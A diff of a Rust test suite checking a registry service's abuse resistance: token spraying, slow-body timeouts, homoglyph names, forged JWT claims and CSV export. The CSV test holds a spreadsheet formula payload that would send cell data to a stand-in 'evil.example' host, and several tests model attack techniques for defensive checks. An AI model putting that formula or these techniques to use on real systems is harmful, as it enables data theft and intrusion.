@@ -1,29 +1,20 @@
 //! Abuse resistance (issue 11): each test replays an attack over HTTP against the running
 //! registry and checks that it held. Row numbers refer to the issue's table.
 
-mod common;
-
 use std::time::{Duration, Instant};
 
-use common::{Engine, Problem, TestApp};
-use feide_registry::app::ServerOptions;
+use feide_registry::domain::auth::ClientRole;
+use feide_registry::error::Problem;
+use feide_registry::http::history::ChangeFeed;
+use feide_registry::http::views::VendorView;
+use reqwest::Method;
 use serde_json::{json, Value};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
-/// A problem document, typed.
-fn problem(p: Value) -> Problem {
-    serde_json::from_value(p).expect("a problem document")
-}
-
-fn options() -> ServerOptions {
-    ServerOptions::with_key(common::TEST_KEY.to_vec())
-}
-
-async fn spawn_with(engine: Engine, edit: impl FnOnce(&mut ServerOptions)) -> TestApp {
-    let mut o = options();
-    edit(&mut o);
-    common::spawn_configured(engine, Some(common::seed_file()), o).await
-}
+use crate::helpers::views::OAuthError;
+use crate::helpers::{
+    new_service_introducing, spawn, spawn_with, Answer, Engine, IfMatch, TestApp, TEST_KEY,
+};
 
 /// This process's resident memory, in MiB (the registry under test runs in it).
 fn rss_mib() -> u64 {
@@ -41,30 +32,20 @@ fn rss_mib() -> u64 {
 /// registry stays live, and a real client still gets its token during the spray.
 async fn a_token_spray_takes_no_memory_and_starves_no_one(engine: Engine) {
     let app = spawn_with(engine, |o| o.workers = 2).await;
-    let (id, secret) = app.create_client("vendor", Some("trygg-trafikk"));
+    let (id, secret) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
     assert_eq!(app.token_request(&id, &secret).await.status(), 200);
     let before = rss_mib();
     let stop = Instant::now() + Duration::from_secs(3);
     let mut sprayers = Vec::new();
     for n in 0..64 {
-        let client = app.client.clone();
-        let url = app.url("/api/v1/auth/token");
+        let sprayer = app.anonymous();
         sprayers.push(tokio::spawn(async move {
             let mut statuses = std::collections::BTreeSet::new();
             let mut i = 0u64;
             while Instant::now() < stop {
                 i += 1;
                 let id = format!("random-{n}-{i}");
-                let res = client
-                    .post(&url)
-                    .form(&[
-                        ("grant_type", "client_credentials"),
-                        ("client_id", id.as_str()),
-                        ("client_secret", "x"),
-                    ])
-                    .send()
-                    .await
-                    .unwrap();
+                let res = sprayer.token_request(&id, "x").await;
                 statuses.insert(res.status().as_u16());
             }
             statuses
@@ -104,17 +85,12 @@ async fn anonymous_refusals_are_tallied_not_written_one_by_one(engine: Engine) {
     let attempts = 300;
     let mut tasks = Vec::new();
     for _ in 0..6 {
-        let client = app.client.clone();
-        let url = app.url("/api/v1/services/kikora");
+        let anonymous = app.anonymous();
         tasks.push(tokio::spawn(async move {
             for _ in 0..attempts / 6 {
-                let res = client
-                    .patch(&url)
-                    .header("Content-Type", "application/merge-patch+json")
-                    .body("{}")
-                    .send()
-                    .await
-                    .unwrap();
+                let res = anonymous
+                    .patch("/api/v1/services/kikora", IfMatch::Absent, json!({}))
+                    .await;
                 assert_eq!(res.status(), 401);
             }
         }));
@@ -124,11 +100,11 @@ async fn anonymous_refusals_are_tallied_not_written_one_by_one(engine: Engine) {
         t.await.unwrap();
     }
     let windows = started.elapsed().as_secs() as usize + 2;
-    let admin = app.token("admin", None).await;
-    let rows = app
-        .audited_attempts(&admin, "action=service.patch", attempts)
+    let admin = app.admin().await;
+    let rows = admin
+        .audited_attempts("action=service.patch", attempts)
         .await;
-    let total: i64 = rows.iter().map(|r| r.count).sum();
+    let total: i64 = rows.iter().map(|r| i64::from(r.count)).sum();
     assert_eq!(total, attempts, "every attempt is accounted for");
     assert!(
         rows.len() <= 2 * windows,
@@ -138,7 +114,8 @@ async fn anonymous_refusals_are_tallied_not_written_one_by_one(engine: Engine) {
     assert!(rows
         .iter()
         .all(|r| r.source.as_deref() == Some("127.0.0.1")));
-    let metrics = app.get("/metrics").await.text().await.unwrap();
+    let metrics = app.get("/metrics").await;
+    let metrics = metrics.text();
     let refused: i64 = metrics
         .lines()
         .find_map(|l| l.strip_prefix("feide_registry_refusals_total{outcome=\"401\"} "))
@@ -150,20 +127,18 @@ async fn anonymous_refusals_are_tallied_not_written_one_by_one(engine: Engine) {
 /// Row 2, the cap: the audit log keeps at most its configured number of rows, oldest removed.
 async fn the_audit_log_is_capped_oldest_first(engine: Engine) {
     let app = spawn_with(engine, |o| o.audit.max_rows = 10).await;
-    let own = app.token("vendor", Some("eldur-learning")).await;
+    let other = app.vendor("eldur-learning").await;
     let path = "/api/v1/services/sykkeldyktig";
     let etag = app.etag(path).await;
     for i in 0..25 {
         let body = json!({ "description": format!("forsøk {i}") });
-        let res = app
-            .write("PATCH", path, Some(&own), Some(&etag), Some(&body))
-            .await;
+        let res = other.patch(path, &etag, body).await;
         assert_eq!(res.status(), 403, "another vendor's service");
     }
-    let admin = app.token("admin", None).await;
+    let admin = app.admin().await;
     let deadline = Instant::now() + Duration::from_secs(25);
     let rows = loop {
-        let rows = app.audit(&admin, "").await;
+        let rows = admin.audit("").await;
         if rows.len() <= 10 || Instant::now() > deadline {
             break rows;
         }
@@ -181,17 +156,15 @@ async fn the_audit_log_is_capped_oldest_first(engine: Engine) {
 /// Row 3: a long free-text query is refused at once; a repeated word costs nothing.
 async fn free_text_is_bounded(app: TestApp) {
     let long = "e ".repeat(2000);
-    let p = problem(
-        app.problem(&format!("/api/v1/services?q={}", long.trim()), 400)
-            .await,
-    );
+    let p = app
+        .problem(&format!("/api/v1/services?q={}", long.trim()), 400)
+        .await;
     assert_eq!(p.errors[0].pointer, "q");
     assert!(p.errors[0].detail.contains("200 characters"), "{p:?}");
     let many = "a b c d e f g h i j k";
-    let p = problem(
-        app.problem(&format!("/api/v1/services?q={many}"), 400)
-            .await,
-    );
+    let p = app
+        .problem(&format!("/api/v1/services?q={many}"), 400)
+        .await;
     assert!(p.errors[0].detail.contains("10 distinct words"), "{p:?}");
     // the same word 99 times finds what the word finds once
     let once = app.ids("/api/v1/services?q=kikora").await;
@@ -207,17 +180,15 @@ async fn a_flood_of_bad_parameters_gets_a_short_answer(app: TestApp) {
     let z = vec!["z"; 20_000].join("&");
     let res = app.get(&format!("/api/v1/services?{z}")).await;
     assert_eq!(res.status(), 400);
-    let text = res.text().await.unwrap();
-    assert!(text.len() < 4096, "{} bytes", text.len());
-    let p: Problem = serde_json::from_str(&text).unwrap();
+    assert!(res.body.len() < 4096, "{} bytes", res.body.len());
+    let p = res.problem();
     assert_eq!(p.errors.len(), 1, "{p:?}");
     assert_eq!(p.errors[0].pointer, "z");
 
     let distinct: Vec<String> = (0..45).map(|i| format!("p{i}=1")).collect();
-    let p = problem(
-        app.problem(&format!("/api/v1/services?{}", distinct.join("&")), 400)
-            .await,
-    );
+    let p = app
+        .problem(&format!("/api/v1/services?{}", distinct.join("&")), 400)
+        .await;
     assert_eq!(p.errors.len(), 20);
     let detail = &p.detail;
     assert!(
@@ -230,7 +201,7 @@ async fn a_flood_of_bad_parameters_gets_a_short_answer(app: TestApp) {
 /// connection closed.
 async fn a_body_that_never_comes_times_out(engine: Engine) {
     let app = spawn_with(engine, |o| o.body_timeout = Duration::from_secs(1)).await;
-    let addr = app.base.trim_start_matches("http://").to_owned();
+    let addr = app.base().trim_start_matches("http://").to_owned();
     let mut conn = tokio::net::TcpStream::connect(&addr).await.unwrap();
     conn.write_all(
         b"POST /api/v1/auth/token HTTP/1.1\r\nHost: registry\r\n\
@@ -270,31 +241,15 @@ async fn a_body_that_never_comes_times_out(engine: Engine) {
 /// Row 7: a formula written by a vendor reaches a spreadsheet as text, in a file download.
 async fn csv_cells_cannot_run_formulas(app: TestApp) {
     let formula = r#"=HYPERLINK("http://evil.example/?x="&A1,"Klikk")"#;
-    let token = app.token("vendor", Some("trygg-trafikk")).await;
+    let vendor = app.vendor("trygg-trafikk").await;
     let path = "/api/v1/vendors/trygg-trafikk";
     let etag = app.etag(path).await;
-    let res = app
-        .write(
-            "PATCH",
-            path,
-            Some(&token),
-            Some(&etag),
-            Some(&json!({"name": formula})),
-        )
-        .await;
+    let res = vendor.patch(path, &etag, json!({"name": formula})).await;
     assert_eq!(res.status(), 200);
     let service = "/api/v1/services/sykkeldyktig";
     let etag = app.etag(service).await;
     let attributes = json!({"attributes": [{"name": "cn", "justification": formula}]});
-    let res = app
-        .write(
-            "PATCH",
-            service,
-            Some(&token),
-            Some(&etag),
-            Some(&attributes),
-        )
-        .await;
+    let res = vendor.patch(service, &etag, attributes).await;
     assert_eq!(res.status(), 200);
     for (list, file) in [
         ("/api/v1/vendors", "vendors.csv"),
@@ -304,20 +259,14 @@ async fn csv_cells_cannot_run_formulas(app: TestApp) {
             "compare.csv",
         ),
     ] {
-        let res = app
-            .client
-            .get(app.url(list))
-            .header("Accept", "text/csv")
-            .send()
-            .await
-            .unwrap();
+        let res = Answer::of(app.request(Method::GET, list).header("Accept", "text/csv")).await;
         assert_eq!(res.status(), 200, "{list}");
         assert_eq!(
-            res.headers()["content-disposition"],
-            format!("attachment; filename=\"{file}\""),
+            res.header("content-disposition"),
+            Some(format!("attachment; filename=\"{file}\"").as_str()),
             "{list}"
         );
-        let text = res.text().await.unwrap();
+        let text = res.text();
         let mut reader = csv::ReaderBuilder::new()
             .has_headers(false)
             .flexible(true)
@@ -339,33 +288,22 @@ async fn csv_cells_cannot_run_formulas(app: TestApp) {
     }
 }
 
-/// A new service introducing the new sub-processor `sub`.
-fn new_service(id: &str, sub: &str) -> Value {
-    let mut doc = common::new_service(id);
-    doc["sub_processors"] = json!([{"id": sub, "purpose": "Lagring", "transfer_mechanism": "eea",
-        "locations": [{"country": "SE", "role": "storage"}]}]);
-    doc["new_sub_processors"] = json!([{"id": sub, "name": format!("Vertskap {id}"),
-        "legal_name": null, "org_number": null, "registration_number": null, "country": "SE",
-        "address": null, "website": null}]);
-    doc
-}
-
 /// Row 8: two vendors introduce the same new sub-processor at once: one wins, the other gets a
 /// 409 naming it, and the entry shows in the change feed.
 async fn two_writers_cannot_both_define_a_shared_sub_processor(engine: Engine) {
-    let app = common::spawn(engine).await;
-    let a = app.token("vendor", Some("trygg-trafikk")).await;
-    let admin = app.token("admin", None).await;
+    let app = spawn(engine).await;
+    let a = app.vendor("trygg-trafikk").await;
+    let admin = app.admin().await;
     for round in 0..8 {
         let sub = format!("delt-vert-{round}");
-        let (x, y) = (new_service(&format!("a-{round}"), &sub), {
-            let mut d = new_service(&format!("b-{round}"), &sub);
+        let (x, y) = (new_service_introducing(&format!("a-{round}"), &sub), {
+            let mut d = new_service_introducing(&format!("b-{round}"), &sub);
             d["new_sub_processors"][0]["name"] = json!(format!("Annen vert {round}"));
             d
         });
         let (ra, rb) = tokio::join!(
-            app.write("POST", "/api/v1/services", Some(&a), None, Some(&x)),
-            app.write("POST", "/api/v1/services", Some(&admin), None, Some(&y)),
+            a.post("/api/v1/services", &x),
+            admin.post("/api/v1/services", &y),
         );
         let mut statuses = [ra.status().as_u16(), rb.status().as_u16()];
         let loser = if statuses[0] == 201 { rb } else { ra };
@@ -374,19 +312,18 @@ async fn two_writers_cannot_both_define_a_shared_sub_processor(engine: Engine) {
             statuses == [201, 409] || statuses == [201, 422],
             "round {round}: {statuses:?}"
         );
-        let p: Problem = loser.json().await.unwrap();
+        let p = loser.problem();
         assert!(
             format!("{} {:?}", p.detail, p.errors).contains(&sub),
             "the refusal names the sub-processor: {p:?}"
         );
     }
-    let feed = app.json("/api/v1/changes?limit=500").await;
-    let created: Vec<&str> = feed["items"]
-        .as_array()
-        .unwrap()
+    let feed: ChangeFeed = app.read("/api/v1/changes?limit=500").await;
+    let created: Vec<&str> = feed
+        .items
         .iter()
-        .filter(|c| c["entity"] == "sub_processor")
-        .map(|c| c["id"].as_str().unwrap())
+        .filter(|c| c.entity == "sub_processor")
+        .map(|c| c.id.as_str())
         .collect();
     assert_eq!(created.len(), 8, "{created:?}");
     assert!(created.contains(&"delt-vert-0"));
@@ -413,23 +350,18 @@ fn org_number(first8: u32) -> String {
 /// Rows 9 and 10: organisation numbers are unique in the database, and only administrators set
 /// them.
 async fn organisation_numbers_are_unique_and_set_by_administrators(engine: Engine) {
-    let app = common::spawn(engine).await;
-    let own = app.token("vendor", Some("trygg-trafikk")).await;
+    let app = spawn(engine).await;
+    let own = app.vendor("trygg-trafikk").await;
     let path = "/api/v1/vendors/trygg-trafikk";
     let etag = app.etag(path).await;
-    let res = app
-        .write(
-            "PATCH",
-            path,
-            Some(&own),
-            Some(&etag),
-            Some(&json!({"org_number": org_number(81_000_000)})),
-        )
+    let res = own
+        .patch(path, &etag, json!({"org_number": org_number(81_000_000)}))
         .await;
     assert_eq!(res.status(), 403, "a vendor may not change its number");
-    assert_eq!(app.json(path).await["org_number"], "970133410");
+    let vendor: VendorView = app.read(path).await;
+    assert_eq!(vendor.org_number.as_deref(), Some("970133410"));
 
-    let admin = app.token("admin", None).await;
+    let admin = app.admin().await;
     for round in 0..6 {
         let org = org_number(82_000_000 + round * 17);
         let (ea, eb) = (
@@ -438,20 +370,8 @@ async fn organisation_numbers_are_unique_and_set_by_administrators(engine: Engin
         );
         let body = json!({ "org_number": org });
         let (ra, rb) = tokio::join!(
-            app.write(
-                "PATCH",
-                "/api/v1/vendors/cerpus",
-                Some(&admin),
-                Some(&ea),
-                Some(&body)
-            ),
-            app.write(
-                "PATCH",
-                "/api/v1/vendors/matematikksenteret",
-                Some(&admin),
-                Some(&eb),
-                Some(&body)
-            ),
+            admin.patch("/api/v1/vendors/cerpus", &ea, &body),
+            admin.patch("/api/v1/vendors/matematikksenteret", &eb, &body),
         );
         let mut statuses = [ra.status().as_u16(), rb.status().as_u16()];
         statuses.sort_unstable();
@@ -466,7 +386,7 @@ async fn organisation_numbers_are_unique_and_set_by_administrators(engine: Engin
 
 /// Row 11: names that hide or fake what they show are refused, naming the look-alike.
 async fn names_must_show_what_they_are(app: TestApp) {
-    let token = app.token("vendor", Some("trygg-trafikk")).await;
+    let vendor = app.vendor("trygg-trafikk").await;
     let path = "/api/v1/vendors/trygg-trafikk";
     for (name, expect) in [
         ("Trygg \u{202E}kiffarT", "bidirectional"),
@@ -477,41 +397,29 @@ async fn names_must_show_what_they_are(app: TestApp) {
         ("C\u{0435}rpus Techn\u{043E}logy AS", "`cerpus`"),
     ] {
         let etag = app.etag(path).await;
-        let res = app
-            .write(
-                "PATCH",
-                path,
-                Some(&token),
-                Some(&etag),
-                Some(&json!({ "name": name })),
-            )
-            .await;
+        let res = vendor.patch(path, &etag, json!({ "name": name })).await;
         assert_eq!(res.status(), 422, "{name:?}");
-        let p: Problem = res.json().await.unwrap();
+        let p = res.problem();
         assert_eq!(p.errors[0].pointer, "/name", "{p:?}");
         assert!(p.errors[0].detail.contains(expect), "{name:?}: {p:?}");
     }
-    assert_eq!(app.json(path).await["name"], "Trygg Trafikk");
+    assert_eq!(app.read::<VendorView>(path).await.name, "Trygg Trafikk");
     // a new sub-processor passed off as a known one
-    let mut doc = new_service("falsk-sky", "falsk-sky");
+    let mut doc = new_service_introducing("falsk-sky", "falsk-sky");
     doc["new_sub_processors"][0]["name"] = json!("Micr\u{043E}soft Azure");
-    let res = app
-        .write("POST", "/api/v1/services", Some(&token), None, Some(&doc))
-        .await;
+    let res = vendor.post("/api/v1/services", &doc).await;
     assert_eq!(res.status(), 422);
-    let p: Problem = res.json().await.unwrap();
+    let p = res.problem();
     assert_eq!(p.errors[0].pointer, "/new_sub_processors/0/name");
     assert!(p.errors[0].detail.contains("microsoft-azure"), "{p:?}");
     // any text: a justification with a zero-width space
     let path = "/api/v1/services/sykkeldyktig";
     let etag = app.etag(path).await;
-    let res = app
-        .write(
-            "PATCH",
+    let res = vendor
+        .patch(
             path,
-            Some(&token),
-            Some(&etag),
-            Some(&json!({"description": "Sykkel\u{200B}opplæring"})),
+            &etag,
+            json!({"description": "Sykkel\u{200B}opplæring"}),
         )
         .await;
     assert_eq!(res.status(), 422);
@@ -519,22 +427,22 @@ async fn names_must_show_what_they_are(app: TestApp) {
 
 /// Row 12: a secret in the query string is refused, even with good credentials in the body.
 async fn the_token_endpoint_refuses_query_strings(app: TestApp) {
-    let (id, secret) = app.create_client("vendor", Some("trygg-trafikk"));
-    let res = app
-        .client
-        .post(app.url(&format!("/api/v1/auth/token?client_secret={secret}")))
+    let (id, secret) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
+    let res = Answer::of(
+        app.request(
+            Method::POST,
+            &format!("/api/v1/auth/token?client_secret={secret}"),
+        )
         .form(&[
             ("grant_type", "client_credentials"),
             ("client_id", id.as_str()),
             ("client_secret", secret.as_str()),
-        ])
-        .send()
-        .await
-        .unwrap();
+        ]),
+    )
+    .await;
     assert_eq!(res.status(), 400);
-    let body: Value = res.json().await.unwrap();
-    assert_eq!(body["error"], "invalid_request");
-    assert!(body.get("access_token").is_none());
+    assert_eq!(res.json::<OAuthError>().error, "invalid_request");
+    assert!(res.json::<Value>().get("access_token").is_none());
 }
 
 /// Row 13: wrong secrets from one source do not lock the client out, and each refused attempt
@@ -545,7 +453,7 @@ async fn wrong_secrets_do_not_lock_a_client_out(engine: Engine) {
         o.refusal_window = Duration::from_secs(1);
     })
     .await;
-    let (id, secret) = app.create_client("vendor", Some("trygg-trafikk"));
+    let (id, secret) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
     let mut statuses = Vec::new();
     for _ in 0..24 {
         statuses.push(app.token_request(&id, "wrong").await.status().as_u16());
@@ -553,14 +461,14 @@ async fn wrong_secrets_do_not_lock_a_client_out(engine: Engine) {
     assert_eq!(&statuses[..6], [401; 6]);
     assert!(statuses[6..].iter().all(|s| *s == 429), "{statuses:?}");
     assert_eq!(app.token_request(&id, &secret).await.status(), 200);
-    let admin = app.token("admin", None).await;
-    let rows = app
-        .audited_attempts(&admin, &format!("client_id={id}&action=token.issue"), 25)
+    let admin = app.admin().await;
+    let rows = admin
+        .audited_attempts(&format!("client_id={id}&action=token.issue"), 25)
         .await;
     let refused: i64 = rows
         .iter()
         .filter(|r| r.outcome != 200)
-        .map(|r| r.count)
+        .map(|r| i64::from(r.count))
         .sum();
     assert_eq!(refused, 24, "{rows:?}");
 }
@@ -568,7 +476,7 @@ async fn wrong_secrets_do_not_lock_a_client_out(engine: Engine) {
 /// Row 14: tokens signed with the registry's key but with impossible times are refused, and
 /// role and vendor come from the client record, not from the token.
 async fn token_times_and_claims_are_checked(app: TestApp) {
-    let (id, _) = app.create_client("vendor", Some("trygg-trafikk"));
+    let (id, _) = app.create_client(ClientRole::Vendor, Some("trygg-trafikk"));
     let now = chrono::Utc::now().timestamp();
     let sign = |edit: &dyn Fn(&mut Value)| {
         let mut claims = json!({"iss": "feide-registry", "aud": "feide-registry", "sub": id,
@@ -577,7 +485,7 @@ async fn token_times_and_claims_are_checked(app: TestApp) {
         jsonwebtoken::encode(
             &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256),
             &claims,
-            &jsonwebtoken::EncodingKey::from_secret(common::TEST_KEY),
+            &jsonwebtoken::EncodingKey::from_secret(TEST_KEY),
         )
         .unwrap()
     };
@@ -592,9 +500,7 @@ async fn token_times_and_claims_are_checked(app: TestApp) {
         ("iat in the future", sign(&|c| c["iat"] = json!(now + 600))),
     ] {
         let etag = app.etag(path).await;
-        let res = app
-            .write("PATCH", path, Some(&token), Some(&etag), Some(&patch))
-            .await;
+        let res = app.bearer(token).patch(path, &etag, &patch).await;
         assert_eq!(res.status(), 401, "{what}");
     }
     // a vendor client's token claiming to be an administrator acts as the vendor it is
@@ -603,27 +509,17 @@ async fn token_times_and_claims_are_checked(app: TestApp) {
         c["vendor"] = Value::Null;
     });
     let res = app
-        .write(
-            "POST",
+        .bearer(claims_admin)
+        .post(
             "/api/v1/vendors",
-            Some(&claims_admin),
-            None,
-            Some(&json!({"id": "ny-leverandor", "name": "Ny leverandør AS"})),
+            json!({"id": "ny-leverandor", "name": "Ny leverandør AS"}),
         )
         .await;
     assert_eq!(res.status(), 403);
     let claims_other = sign(&|c| c["vendor"] = json!("eldur-learning"));
     let kikora = "/api/v1/services/kikora";
     let etag = app.etag(kikora).await;
-    let res = app
-        .write(
-            "PATCH",
-            kikora,
-            Some(&claims_other),
-            Some(&etag),
-            Some(&patch),
-        )
-        .await;
+    let res = app.bearer(claims_other).patch(kikora, &etag, &patch).await;
     assert_eq!(res.status(), 403, "the vendor comes from the client record");
 }
 
@@ -637,38 +533,31 @@ async fn answers_carry_safety_headers(app: TestApp) {
         "/docs/",
     ] {
         let res = app.get(path).await;
-        assert_eq!(res.headers()["x-content-type-options"], "nosniff", "{path}");
-        let csp = res.headers()["content-security-policy"].to_str().unwrap();
+        assert_eq!(
+            res.header("x-content-type-options"),
+            Some("nosniff"),
+            "{path}"
+        );
+        let csp = res.header("content-security-policy").unwrap();
         assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
         assert!(
             !csp.contains("unsafe-eval") && !csp.contains("script-src *"),
             "{csp}"
         );
     }
-    let admin = app.token("admin", None).await;
-    let res = app
-        .client
-        .get(app.url("/api/v1/audit"))
-        .bearer_auth(&admin)
-        .send()
-        .await
-        .unwrap();
-    assert_eq!(res.headers()["cache-control"], "no-store");
+    let admin = app.admin().await;
+    let res = admin.get("/api/v1/audit").await;
+    assert_eq!(res.header("cache-control"), Some("no-store"));
     let path = "/api/v1/services/sykkeldyktig";
     let etag = app.etag(path).await;
-    let res = app
-        .write(
-            "PATCH",
-            path,
-            Some(&admin),
-            Some(&etag),
-            Some(&json!({"description": "Ny beskrivelse"})),
-        )
+    let res = admin
+        .patch(path, &etag, json!({"description": "Ny beskrivelse"}))
         .await;
     assert_eq!(res.status(), 200);
-    assert_eq!(res.headers()["cache-control"], "no-store");
-    let res = app.write("PATCH", path, None, None, None).await;
-    assert_eq!(res.headers()["cache-control"], "no-store");
+    assert_eq!(res.header("cache-control"), Some("no-store"));
+    // an anonymous PATCH with neither precondition nor body
+    let res = Answer::of(app.request(Method::PATCH, path)).await;
+    assert_eq!(res.header("cache-control"), Some("no-store"));
     // the database file (client secret hashes, audit) and its WAL are the owner's alone
     #[cfg(unix)]
     if !app.database_url.starts_with("postgres") {
